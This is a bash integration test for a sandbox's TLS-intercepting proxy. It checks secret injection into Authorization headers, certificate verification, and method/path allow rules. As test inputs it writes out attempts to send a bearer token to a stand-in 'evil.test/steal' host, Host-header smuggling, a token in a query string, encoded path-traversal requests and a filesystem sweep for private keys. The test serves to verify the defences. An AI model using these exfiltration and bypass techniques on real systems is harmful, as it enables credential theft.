#!/usr/bin/env bash
# Integration: TLS interception (docs/secrets.md "HTTPS", network.http_rules),
# ns backend. HTTPS servers on the host's loopback with a CA of their own
# (made here with openssl) stand for the APIs; the proxy resolves names
# from a hosts file and verifies them against that CA (network.ca_file).
# Clients inside: curl, Python, Node and git, each through HTTPS_PROXY.
. "$CORDON_SRC/tests/lib/tap.sh"
. "$CORDON_SRC/tests/lib/cordon.sh"
. "$CORDON_SRC/tests/lib/fixtures.sh"
. "$CORDON_SRC/tests/lib/pki.sh"

proxy_test_env tls
log="$TEST_TMP/server.log"
badlog="$TEST_TMP/bad.log"
port=$((20000 + (RANDOM % 20000)))
badport=$((port + 1))
pki="$TEST_TMP/pki"

# The servers' own CA, a certificate for every test name from it, and a
# self-signed one no CA vouches for.
make_test_pki "$pki" "test servers CA" api.test DNS:api.test,DNS:evil.test,DNS:rules.test,DNS:plain.test
ossl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=bad.test" \
    -addext "subjectAltName=DNS:bad.test" -keyout "$pki/bad.key" -out "$pki/bad.pem"
chmod 644 "$pki"/*
cp "$pki/ca.pem" "$ws/servers-ca.pem"

env_value="SENTINEL-env-$RANDOM$RANDOM$RANDOM"
export HOST_API_TOKEN=$env_value
EXPECT_ENV=$env_value $PY "$here/secret-server.py" "$port" "$log" "$pki/srv.pem" "$pki/srv.key" \
    >/dev/null 2>&1 &
cleanup_pids+=($!)
EXPECT_ENV=$env_value $PY "$here/secret-server.py" "$badport" "$badlog" "$pki/bad.pem" \
    "$pki/bad.key" >/dev/null 2>&1 &
cleanup_pids+=($!)
for p in $port $badport; do wait_port 127.0.0.1 "$p"; done

echo "127.0.0.1 api.test evil.test rules.test plain.test bad.test" >"$hosts"
cat >"$XDG_CONFIG_HOME/cordon/config.toml" <<EOF2
[network]
ca_file = "$pki/ca.pem"
http_rules = ["GET rules.test/repos/*", "POST rules.test/repos/me/*/pulls"]

[[secrets]]
name = "API_TOKEN"
from = "env:HOST_API_TOKEN"
hosts = ["api.test", "bad.test"]
header = "Authorization"
EOF2

net_run() { # net_run [--set ...] SCRIPT
    local script=${*: -1}
    cordon_run "$ws" --network allowlist --net-hosts-file "$hosts" --net-audit-log "$audit" \
        --allow-host api.test --allow-host evil.test --allow-host rules.test \
        --allow-host plain.test --allow-host bad.test --allow-host "127.0.0.1:$port" \
        --allow-host "127.0.0.1:$badport" "${@:1:$#-1}" -- bash -c "$script"
}
code() { echo "$out" | grep -o 'code=[0-9]*' | head -1; }

# ------------------------------------------------ curl: the value goes into HTTPS
: >"$log"
net_run 'curl -sS -m 20 -H "Authorization: Bearer $API_TOKEN" https://api.test:'$port'/user'
is "curl over HTTPS: the bound host gets the real value" "$out" "auth=ok ENV"
like "the server saw the value" "$(cat "$log")" "Authorization: Bearer $env_value"
unlike "the server never saw a placeholder" "$(cat "$log")" "cordon-secret-"
like "the audit log records the interception" "$(cat "$audit")" \
    '"host":"api.test".*"decision":"allow".*TLS intercepted'

# The session CA is in the sandbox's system bundle; its key is nowhere inside.
net_run 'grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt; echo "ssl=$SSL_CERT_FILE node=$NODE_EXTRA_CA_CERTS"
    grep -rlsE "BEGIN (EC |)PRIVATE KEY" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr | grep -v "^'"$ws"'" | head -3; echo "keys-done"
    openssl s_client -connect api.test:'$port' -proxy 127.0.0.1:3128 -servername api.test </dev/null 2>/dev/null | openssl x509 -noout -issuer'
like "the clients' variables name the bundle" "$out" \
    "ssl=/etc/ssl/certs/ca-certificates.crt node=/etc/ssl/certs/ca-certificates.crt"
like "the leaf the sandbox sees is the session CA's" "$out" "issuer=O = cordon, CN = cordon session CA"
like "no private key in any file inside" "$out" "$(printf 'crt\nkeys-done|[0-9]+\nssl=.*\nkeys-done')"
n_host=$(grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt)
like "the bundle inside is the host's plus one" "$out" "^$((n_host + 1))"

# ------------------------------------------------ Python, Node, git
: >"$log"
net_run 'python3 -c "
import os, urllib.request
r = urllib.request.Request(\"https://api.test:'$port'/py\", headers={\"Authorization\": \"Bearer \" + os.environ[\"API_TOKEN\"]})
print(\"py:\", urllib.request.urlopen(r, timeout=20).read().decode().strip())"'
is "Python (urllib, HTTPS_PROXY, system store): the value arrives" "$out" "py: auth=ok ENV"
net_run 'node -e "
const http = require(\"http\"), tls = require(\"tls\");
http.request({host: \"127.0.0.1\", port: 3128, method: \"CONNECT\", path: \"api.test:'$port'\"}).on(\"connect\", (res, sock) => {
  const s = tls.connect({socket: sock, servername: \"api.test\"}, () => {
    s.write(\"GET /node HTTP/1.1\r\nHost: api.test:'$port'\r\nAuthorization: Bearer \" + process.env.API_TOKEN + \"\r\nConnection: close\r\n\r\n\");
  });
  let body = \"\"; s.on(\"data\", d => body += d); s.on(\"end\", () => console.log(\"node:\", body.split(\"\r\n\r\n\")[1].trim()));
  s.on(\"error\", e => console.log(\"node error\", e.message));
}).end();"'
is "Node (tls over CONNECT, NODE_EXTRA_CA_CERTS): the value arrives" "$out" "node: auth=ok ENV"
net_run 'git -c http.extraHeader="Authorization: Bearer $API_TOKEN" ls-remote https://api.test:'$port'/r.git 2>&1 | head -3; echo git-done'
like "git over HTTPS reached the server through the proxy" "$(grep -A12 'GET /r.git' "$log")" \
    "Authorization: Bearer $env_value"
like "... with git's own request" "$(cat "$log")" "GET /r.git/info/refs\\?service=git-upload-pack"
unlike "... and no sentinel came back inside" "$out" "SENTINEL-"

# ------------------------------------------------ leaks, bad upstreams
: >"$log"
net_run 'curl -sS -m 20 --cacert servers-ca.pem -H "Authorization: Bearer $API_TOKEN" https://evil.test:'$port'/steal'
like "a placeholder to an unbound HTTPS host: not substituted (a plain tunnel)" "$(cat "$log")" \
    "Bearer cordon-secret-API_TOKEN-"
unlike "... the value never went there" "$(cat "$log")" "$env_value"
: >"$log"
net_run 'curl -sS -m 20 -o /dev/stderr -w "code=%{http_code}" -H "Authorization: Bearer $API_TOKEN" -H "Host: evil.test:'$port'" https://api.test:'$port'/steal'
is "a Host header naming another host inside an intercepted tunnel is refused" "$(code)" "code=403"
like "... saying why" "$out" "the Host header \\(evil.test:$port\\) is not the tunnel's destination"
is "... and nothing reached the server" "$(wc -c <"$log")" "0"
net_run 'curl -sS -m 20 -o /dev/stderr -w "code=%{http_code}" "https://api.test:'$port'/q?t=$API_TOKEN"'
is "outside its header, the placeholder is refused inside TLS too" "$(code)" "code=403"
like "... naming the rule" "$out" "outside its Authorization header"

: >"$badlog"
net_run 'curl -sS -m 20 -o /dev/stderr -w "code=%{http_code}" -H "Authorization: Bearer $API_TOKEN" https://bad.test:'$badport'/'
is "an upstream whose certificate no trusted CA signed is refused (502)" "$(code)" "code=502"
like "... naming the verification failure" "$out" "the certificate of bad.test:$badport failed verification"
unlike "... and the value was not sent to it" "$(cat "$badlog")" "$env_value"

# ------------------------------------------------ method and path rules
: >"$log"
net_run 'for r in "GET /repos/me/x" "GET /repos/a/b/c" "POST /repos/me/x/pulls" "POST /repos/me/x/issues" "GET /user" "DELETE /repos/me/x" "GET /repos/../user" "GET /repos/%2e%2e/user"; do
    set -- $r; echo "$1 $2 code=$(curl -sS -m 20 -o /dev/null -w "%{http_code}" -X $1 --path-as-is "https://rules.test:'$port'$2")"; done
    curl -sS -m 20 -X DELETE https://rules.test:'$port'/repos/me/x'
like "GET rules.test/repos/*: allowed" "$out" "GET /repos/me/x code=200"
like "... a final * covers deeper paths" "$out" "GET /repos/a/b/c code=200"
like "POST rules.test/repos/me/*/pulls: allowed" "$out" "POST /repos/me/x/pulls code=200"
like "a POST no rule names is refused" "$out" "POST /repos/me/x/issues code=403"
like "a path no rule names is refused" "$out" "GET /user code=403"
like "a method no rule names is refused" "$out" "DELETE /repos/me/x code=403"
like "dot segments are refused (the server would normalise them)" "$out" "GET /repos/../user code=403"
like "... so are encoded ones" "$out" "GET /repos/%2e%2e/user code=403"
like "the refusal names the rules" "$out" \
    "DELETE rules.test/repos/me/x refused: no network.http_rules entry for rules.test allows it \\(the first is \"GET rules.test/repos/\\*\"\\)"
like "the audit log names the refused request" "$(cat "$audit")" \
    '"host":"rules.test".*"decision":"deny".*DELETE rules.test/repos/me/x refused'
unlike "no refused request reached the server" "$(cat "$log")" "GET /user|DELETE|issues|\\.\\."
net_run 'curl -sS -m 20 -o /dev/stderr -w "code=%{http_code}" http://rules.test:'$port'/repos/me/x'
is "a cleartext request to a host with rules is refused" "$(code)" "code=403"

# ------------------------------------------------ a host without secrets or rules is a tunnel
net_run 'curl -sS -m 20 --cacert servers-ca.pem https://plain.test:'$port'/; echo "rc=$?"
    curl -sS -m 20 --cacert servers-ca.pem https://api.test:'$port'/ >/dev/null 2>&1; echo "api-rc=$?"'
like "plain.test: the client verifies the server's own certificate (not intercepted)" "$out" \
    "auth=bad"
like "... and succeeds" "$out" "rc=0"
unlike "api.test (intercepted): the server's own CA does not verify what the client sees" "$out" \
    "api-rc=0"

# ------------------------------------------------ an upload answered before its body is read
# A server that answers 413 a second after 1 KiB of a 50 MiB upload (the
# proxy is blocked writing the body by then), then closes (its kernel
# resets the connection) or stops reading without closing; and for plain
# HTTP one that answers and resets at once, while the upload is in full
# flow (three times: it lost the answer to the failed write about every
# other time). curl waits for that answer while it sends: the proxy must
# deliver it at once, intercepted (rules.test), through a plain tunnel
# (plain.test) and for plain HTTP, and end the request instead of pushing
# the body into a server that takes no more (that stalled for 300 s).
elog="$TEST_TMP/early.log"
tls_close=$((port + 2)) tls_stall=$((port + 3)) http_close=$((port + 4)) http_stall=$((port + 5))
http_reset=$((port + 6))
for m in close stall; do
    eval "tp=\$tls_$m hp=\$http_$m"
    $PY "$here/early-answer-server.py" "$tp" "$elog" "$m" "$pki/srv.pem" "$pki/srv.key" >/dev/null 2>&1 &
    cleanup_pids+=($!)
    $PY "$here/early-answer-server.py" "$hp" "$elog" "$m" >/dev/null 2>&1 &
    cleanup_pids+=($!)
done
$PY "$here/early-answer-server.py" "$http_reset" "$elog" reset >/dev/null 2>&1 &
cleanup_pids+=($!)
for p in "$tls_close" "$tls_stall" "$http_close" "$http_stall" "$http_reset"; do wait_port 127.0.0.1 "$p"; done
: >"$elog"
urls="https://rules.test:$tls_close/repos/me/x/pulls https://rules.test:$tls_stall/repos/me/x/pulls
    https://plain.test:$tls_close/up https://plain.test:$tls_stall/up
    http://plain.test:$http_close/up http://plain.test:$http_stall/up
    http://plain.test:$http_reset/up?1 http://plain.test:$http_reset/up?2 http://plain.test:$http_reset/up?3"
net_run --allow-host "127.0.0.1:$tls_close" --allow-host "127.0.0.1:$tls_stall" \
    --allow-host "127.0.0.1:$http_close" --allow-host "127.0.0.1:$http_stall" \
    --allow-host "127.0.0.1:$http_reset" \
    'head -c 52428800 /dev/zero >/tmp/big; cat "$CURL_CA_BUNDLE" servers-ca.pem >/tmp/ca.pem
    for u in '"$(echo $urls)"'; do
    rm -f /tmp/body; curl -sS -m 30 --cacert /tmp/ca.pem -H "Expect:" -X POST -T /tmp/big -o /tmp/body -w "$u code=%{http_code} t=%{time_total} " "$u" 2>&1
    echo "body=$(cat /tmp/body 2>/dev/null)"; done'
for u in $urls; do
    line=$(grep -F "$u code=" <<<"$out")
    case $u in
    https://rules*) what="intercepted" ;; https://*) what="tunnel" ;; *) what="plain HTTP" ;;
    esac
    case $u in
    *:$tls_close/* | *:$http_close/*) how="answers and closes" ;;
    *:$http_reset/*) how="answers and resets at once (${u##*\?})" ;;
    *) how="answers and stops reading" ;;
    esac
    like "upload, $what, the server $how: curl gets the 413 and its body" "$line" \
        "code=413 .*body=cordon-test: upload refused after 1 KiB"
    t=$(sed -n 's/.* t=\([0-9.]*\) .*/\1/p' <<<"$line")
    is "... within 10 s (took ${t:-?} s)" "$(awk -v t="${t:-999}" 'BEGIN { print (t < 10) ? "fast" : "slow" }')" "fast"
done
is "every upload reached its server, which read 1 KiB" "$(grep -c 'read=1024' "$elog")" "9"

# An early answer belongs to its request: on the same kept-alive
# connection, the next upload to a server that takes 3 s before reading
# its body still arrives whole (the proxy used to keep the first request's
# early answer and give the second up after 2 s).
tls_keep=$((port + 7))
$PY "$here/early-answer-server.py" "$tls_keep" "$elog" keep "$pki/srv.pem" "$pki/srv.key" >/dev/null 2>&1 &
cleanup_pids+=($!)
wait_port 127.0.0.1 "$tls_keep"
cat >"$ws/keep-client.py" <<'PY'
import http.client, os, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
ctx = ssl.create_default_context(cafile=os.environ["CURL_CA_BUNDLE"])
c = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=ctx, timeout=60)
c.set_tunnel("rules.test", int(sys.argv[1]))
data = b"x" * (8 << 20)
for i in range(2):
    c.request("POST", "/repos/me/x/pulls", body=data)
    r = c.getresponse()
    print("status=%d body=%s" % (r.status, r.read().decode().strip()))
PY
net_run --allow-host "127.0.0.1:$tls_keep" "python3 keep-client.py $tls_keep 2>&1 | tail -3"
rm -f "$ws/keep-client.py"
like "an early answer, then the next request on the connection: the first answered" "$out" \
    "status=200 body=first"
like "... and the second upload, read after 3 s, arrives whole" "$out" \
    "status=200 body=second upload read 8388608"

# ------------------------------------------------ configuration rules
printf '[network]\nhttp_rules = ["GET api.test/*"]\n' >"$ws/.cordon.toml"
(cd "$ws" && "$CORDON" trust --yes >/dev/null 2>&1)
cordon_run "$ws" -- true
like "network.http_rules in the workspace file is refused" "$out" \
    "network.http_rules is refused in the workspace file"
printf '[network]\nca_file = "/tmp/x.pem"\n' >"$ws/.cordon.toml"
(cd "$ws" && "$CORDON" trust --yes >/dev/null 2>&1)
cordon_run "$ws" -- true
like "network.ca_file in the workspace file is refused" "$out" \
    "network.ca_file is refused in the workspace file"
rm -f "$ws/.cordon.toml"
cordon_run "$ws" --set 'network.http_rules=["get api.test/x"]' -- true
like "a malformed rule is refused" "$out" "network.http_rules.*upper-case method"

tap_done
